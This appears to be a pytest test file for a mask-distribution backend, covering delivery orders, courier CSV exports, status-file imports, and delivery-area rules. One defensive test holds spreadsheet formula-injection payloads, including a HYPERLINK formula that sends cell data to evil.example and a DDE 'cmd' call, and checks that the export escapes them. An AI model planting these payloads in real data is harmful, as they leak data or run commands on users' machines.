"""Delivery instead of pickup: orders made when winners claim, exported per courier and day,
moved along by the couriers' status files; collection points outside the delivery area."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from tests.worlds import approve_rules, auth, now, residents, store_csv
from wx_backend.campaigns import manage
from wx_backend.campaigns.rules import load_preset
from wx_backend.extensions import db
from wx_backend.lottery import pool
from wx_backend.models import Entry, PostalOrder, Resident

INSIDE = "福州市鼓楼区五四路100号3栋2单元201"
OUTSIDE = "福州市闽侯县上街镇学府路8号1栋101"


@pytest.fixture
def campaign(app) -> dict:
    rules = load_preset("fuzhou")
    rules["fulfilment"] = ["express", "postal", "collection_point"]
    rules["delivery"]["postal_fee_fen"] = 1300
    with app.app_context():
        made = manage.create_campaign(db.session, "fuzhou-delivery", rules,
                                         now() - timedelta(hours=1), preset="fuzhou")
        manage.import_stores(db.session, made, store_csv([50, 50], prefix="自提点"), 50)
        db.session.commit()
        stores = [s.id for s in db.session.scalars(db.select(manage.Store)
                                                   .where(manage.Store.campaign_id == made.id))]
        return {"id": made.id, "stores": stores}


def winners(app, client, campaign_id: int, addresses: list[str]):
    people = residents(app, len(addresses))
    with app.app_context():
        for person, address in zip(people, addresses):
            db.session.get(Resident, person.id).address = address
        db.session.commit()
    for person in people:
        assert client.post(f"/api/v1/campaigns/{campaign_id}/entries",
                           headers=auth(person.token)).status_code == 201
    with app.app_context():
        made = pool.commit_draw(db.session, campaign_id, len(people), now())
        pool.run_draw(db.session, made.id, "4821", now())
        db.session.commit()
        entries = {e.resident_id: e.id for e in db.session.scalars(db.select(Entry))}
    return [(person, entries[person.id]) for person in people]


def claim(client, person, entry_id, **body):
    return client.post(f"/api/v1/entries/{entry_id}/claim", headers=auth(person.token),
                       json=body)


def export(app, campaign_id: int, courier: str, tmp_path) -> list[dict]:
    out = tmp_path / f"{courier}.csv"
    done = app.test_cli_runner().invoke(args=[
        "delivery", "export", "--campaign", str(campaign_id), "--courier", courier,
        "--day", now().astimezone(load_preset_zone()).date().isoformat(), str(out)])
    assert done.exit_code == 0, done.output
    # Bytes, not read_text: universal newlines would turn a carriage return in a cell
    # into a line feed.
    return list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8").lstrip("\ufeff"),
                                           newline="")))


def load_preset_zone():
    from zoneinfo import ZoneInfo

    return ZoneInfo("Asia/Shanghai")


def test_orders_are_exported_per_courier_and_moved_by_status_files(app, client, campaign,
                                                                   tmp_path):
    (express_person, express_entry), (postal_person, postal_entry) = winners(
        app, client, campaign["id"], [INSIDE, "福州市台江区八一七路200号1栋101"])

    express = claim(client, express_person, express_entry, fulfilment="express")
    assert express.status_code == 200, express.json
    assert express.json["order"]["courier"] == "邮政快递" and express.json["order"]["fee_fen"] == 0
    postal = claim(client, postal_person, postal_entry, fulfilment="postal")
    assert postal.json["order"]["cash_on_delivery"] is True

    express_rows = export(app, campaign["id"], "邮政快递", tmp_path)
    assert [(r["地址"], r["配送方式"], r["费用（元）"], r["货到付款"])
            for r in express_rows] == [(INSIDE, "送货上门", "0.00", "否")]
    postal_rows = export(app, campaign["id"], "中国邮政", tmp_path)
    assert [(r["费用（元）"], r["货到付款"]) for r in postal_rows] == [("13.00", "是")]

    order_id = express_rows[0]["订单号"]
    statuses = tmp_path / "statuses.csv"
    # The courier answers in the file's own Chinese columns (older English ones still work).
    statuses.write_text(f"订单号,状态,运单号\n{order_id},已发货,EMS123456\n")
    runner = app.test_cli_runner()
    assert "1 orders updated" in runner.invoke(args=["delivery", "import", str(statuses)]).output
    statuses.write_text(f"order_id,status,tracking_no\n{order_id},delivered,\n")
    assert "1 orders updated" in runner.invoke(args=["delivery", "import", str(statuses)]).output
    with app.app_context():
        order = db.session.get(PostalOrder, int(order_id))
        assert (order.status, order.tracking_no) == ("delivered", "EMS123456")


def test_a_bad_status_file_changes_nothing(app, client, campaign, tmp_path):
    ((person, entry),) = winners(app, client, campaign["id"], [INSIDE])
    order_id = claim(client, person, entry, fulfilment="express").json["order"]["id"]
    statuses = tmp_path / "bad.csv"
    statuses.write_text("order_id,status,tracking_no\n"
                        f"{order_id},shipped,SF1\n"
                        "99999,shipped,SF2\n"
                        f"{order_id},lost,\n"
                        "abc,shipped,\n")

    done = app.test_cli_runner().invoke(args=["delivery", "import", str(statuses)])

    assert done.exit_code != 0 and "nothing was changed" in done.output
    for expected in ("没有订单 99999", "“lost”", "“abc”"):
        assert expected in done.output
    with app.app_context():
        assert db.session.get(PostalOrder, order_id).status == "pending"
    jump = tmp_path / "jump.csv"
    jump.write_text(f"order_id,status\n{order_id},delivered\n{order_id},pending\n")
    jumped = app.test_cli_runner().invoke(args=["delivery", "import", str(jump)])
    assert jumped.exit_code != 0
    assert "不能从待发货改为已签收" in jumped.output


def test_outside_the_delivery_area_only_a_collection_point_will_do(app, client, campaign):
    ((person, entry),) = winners(app, client, campaign["id"], [OUTSIDE])

    refused = claim(client, person, entry, fulfilment="express")
    assert refused.status_code == 409
    assert refused.json["error"]["code"] == "outside_delivery_area"
    assert claim(client, person, entry, fulfilment="collection_point",
                 store_id=999999).status_code == 404
    assert claim(client, person, entry, fulfilment="collection_point",
                 store_id="one").status_code == 422
    assert claim(client, person, entry, fulfilment="collection_point").status_code == 422
    taken = claim(client, person, entry, fulfilment="collection_point",
                  store_id=campaign["stores"][0])
    assert taken.status_code == 200, taken.json
    assert taken.json["order"]["channel"] == "collection_point"
    with app.app_context():
        assert db.session.query(PostalOrder).count() == 1


def test_a_switch_to_home_delivery_moves_live_bookings_and_tells_their_holders(app, client):
    from tests.official import run_jobs
    from tests.worlds import build
    from wx_backend.identity.accounts import create_editor

    world = build(app, "guangzhou")
    home, unknown = residents(app, 2)
    with app.app_context():
        db.session.get(Resident, home.id).address = "广州市越秀区北京路街道文德路12号3栋501"
        create_editor(db.session, "editor.gz", "a long enough password")
        db.session.commit()
    booked = {}
    for person in (home, unknown):
        answer = client.post(f"/api/v1/campaigns/{world.campaign_id}/bookings",
                             json={"store_id": world.store_ids[0]}, headers=auth(person.token))
        assert answer.status_code == 201, answer.json
        booked[person.id] = answer.json["reservation_no"]
    run_jobs(app)
    token = client.post("/api/v1/admin/login", json={
        "username": "editor.gz", "password": "a long enough password"}).json["token"]
    made = client.post("/api/v1/admin/announcements", headers=auth(token), json={
        "title": "改为免费送货上门", "body": "即日起已预约的口罩免费送货上门，无需到店。",
        "campaign_id": world.campaign_id,
        "rules": {"fulfilment": ["express"], "delivery": {"area": ["越秀区"]}}}).json
    approve_rules(app, made["id"])
    assert client.post(f"/api/v1/admin/announcements/{made['id']}/publish",
                       headers=auth(token)).status_code == 200

    run_jobs(app)
    run_jobs(app)

    with app.app_context():
        orders = db.session.scalars(db.select(PostalOrder)).all()
        assert [(o.reservation_no, o.channel, o.status) for o in orders] == [
            (booked[home.id], "express", "pending")]
    switched = [m["text"] for m in client.get("/dev/outbox").json["sms"] if "送货上门" in m["text"]]
    assert len(switched) == 1 and booked[home.id] in switched[0]


def test_a_postal_booking_counts_against_the_same_limit_as_a_pickup(app, client, tmp_path):
    """Qingdao: remote residents book at the post office; one success in either channel
    blocks the other."""
    from tests.worlds import build
    from wx_backend.campaigns import manage as campaign_domain
    from wx_backend.models import Store

    world = build(app, "qingdao")
    with app.app_context():
        campaign = db.session.get(campaign_domain.Campaign, world.campaign_id)
        csv_text = ("name,address,district,lat,lng,daily_cap,opening_hours,channel\n"
                    "即墨邮政局,即墨区振华街1号,即墨区,36.39,120.45,100,08:00-17:00,postal\n")
        result = campaign_domain.import_stores(db.session, campaign, csv_text, 100)
        assert not result.errors, result.errors
        db.session.commit()
        post_office = db.session.scalars(db.select(Store.id).where(Store.channel == "postal")).one()
    app.extensions["directory"].forget()
    remote, town = residents(app, 2)
    with app.app_context():
        db.session.get(Resident, remote.id).address = "青岛市即墨区龙山街道东关村88号"
        db.session.get(Resident, town.id).address = "青岛市市南区香港中路10号1栋101"
        db.session.commit()

    def book(person, store_id):
        return client.post(f"/api/v1/campaigns/{world.campaign_id}/bookings",
                           json={"store_id": store_id}, headers=auth(person.token))

    assert book(town, post_office).json["error"]["code"] == "outside_delivery_area"
    posted = book(remote, post_office)
    assert posted.status_code == 201, posted.json
    with app.app_context():
        order = db.session.scalars(db.select(PostalOrder)).one()
        assert (order.channel, order.fee_fen, order.cash_on_delivery) == ("postal", 1300, True)
        assert order.reservation_no == posted.json["reservation_no"]
    pickup = book(remote, world.store_ids[0])
    assert pickup.status_code == 409
    assert pickup.json["error"]["code"] in ("already_booked", "cooldown")

    bad = store_csv([10]).replace("opening_hours\n", "opening_hours,channel\n").replace(
        "09:00-18:00\n", "09:00-18:00,drone\n")
    with app.app_context():
        campaign = db.session.get(campaign_domain.Campaign, world.campaign_id)
        refused = campaign_domain.import_stores(db.session, campaign, bad, 10)
        assert refused.errors and "drone" in refused.errors[0]


# What residents typed (or what reached their profile some other way) at the start of a
# name or an address: every character a spreadsheet would start a formula with.
HOSTILE = [
    ("=HYPERLINK(\"http://evil.example/?\"&C2,\"张三\")",
     "=HYPERLINK(\"http://evil.example/?\"&F2,\"福州市鼓楼区五四路100号\")"),
    ("+李四", "+1+cmd|' /C calc'!A0 福州市台江区八一七路200号"),
    ("-王五", "-2+3 福州市仓山区上渡路8号2栋301"),
    ("@SUM(1+1)", "@SUM(1+1)福州市晋安区福新路16号"),
    ("\t赵六", "\t=1+1 福州市马尾区罗星街道1号"),
    ("\r钱七", "\r=1+1 福州市鼓楼区杨桥路3号"),
]


def test_the_couriers_file_opens_every_residents_text_as_text(app, client, campaign,
                                                               tmp_path):
    people = winners(app, client, campaign["id"], [address for _, address in HOSTILE]
                     + ["福州市鼓楼区湖东路5号1单元402"])
    with app.app_context():
        for (person, _), (name, _) in zip(people, HOSTILE):
            db.session.get(Resident, person.id).name = name
        # A number written with its country code still reaches the courier as dialled.
        db.session.get(Resident, people[-1][0].id).phone = "+8613812345678"
        db.session.commit()
    for person, entry in people:
        assert claim(client, person, entry, fulfilment="express").status_code == 200

    rows = {row["预约号"]: row for row in export(app, campaign["id"], "邮政快递",
                                                         tmp_path)}

    assert len(rows) == len(people)
    with app.app_context():
        numbers = {e.resident_id: e.reservation_no for e in db.session.scalars(db.select(Entry))}
    for (person, _), (name, address) in zip(people, HOSTILE):
        row = rows[numbers[person.id]]
        assert (row["收件人"], row["地址"]) == ("'" + name, "'" + address)
        assert row["手机号"] == person.phone  # a mainland number is left as it is
    plain = rows[numbers[people[-1][0].id]]
    assert plain["手机号"] == "'+8613812345678"
    assert plain["地址"] == "福州市鼓楼区湖东路5号1单元402"
    assert (plain["费用（元）"], plain["货到付款"]) == ("0.00", "否")


def test_a_rules_version_that_drops_pickup_moves_the_bookings_when_it_takes_effect(app, client):
    """Guangzhou through the operator's rules form (no announcement): the bookings stay
    pickups until the new version's moment, then the planned run moves them and tells the
    holders once, however often it runs."""
    from tests.official import run_jobs
    from tests.worlds import build
    from wx_backend.jobs import schedule, tasks

    world = build(app, "guangzhou")
    near, far = residents(app, 2)
    with app.app_context():
        db.session.get(Resident, near.id).address = "广州市海珠区江南中街道江南大道中168号7楼"
        db.session.get(Resident, far.id).address = "广州市从化区街口街道新村路9号"
        db.session.commit()
    booked = {}
    for person in (near, far):
        answer = client.post(f"/api/v1/campaigns/{world.campaign_id}/bookings",
                             json={"store_id": world.store_ids[1]}, headers=auth(person.token))
        assert answer.status_code == 201, answer.json
        booked[person.id] = answer.json["reservation_no"]
    run_jobs(app)
    moment = now() + timedelta(seconds=1)
    with app.app_context():
        campaign = db.session.get(manage.Campaign, world.campaign_id)
        version = manage.amend_rules(db.session, campaign, {
            "fulfilment": ["express"], "delivery": {"area": ["海珠区"]}}, moment,
            "改为送货上门", now())
        db.session.commit()
        plans = [p for p in schedule.planned(moment - timedelta(minutes=1),
                                             moment + timedelta(minutes=1))
                 if p.task == "follow_fulfilment"]
        assert [(p.key, p.args) for p in plans] == [
            (f"fulfilment:{version.id}", (world.campaign_id,))]
        # Before its moment the old rules hold: nothing moves.
        assert tasks.HANDLERS["follow_fulfilment"](world.campaign_id) == {
            "switched": 0, "told": 0}
    while now() < moment:
        pass
    with app.app_context():
        assert tasks.HANDLERS["follow_fulfilment"](world.campaign_id)["switched"] == 1
        assert tasks.HANDLERS["follow_fulfilment"](world.campaign_id)["switched"] == 0
        orders = db.session.scalars(db.select(PostalOrder)).all()
        assert [(o.reservation_no, o.channel) for o in orders] == [(booked[near.id], "express")]
    run_jobs(app)
    told = [m["text"] for m in client.get("/dev/outbox").json["sms"] if "送货上门" in m["text"]]
    assert len(told) == 1 and booked[near.id] in told[0]
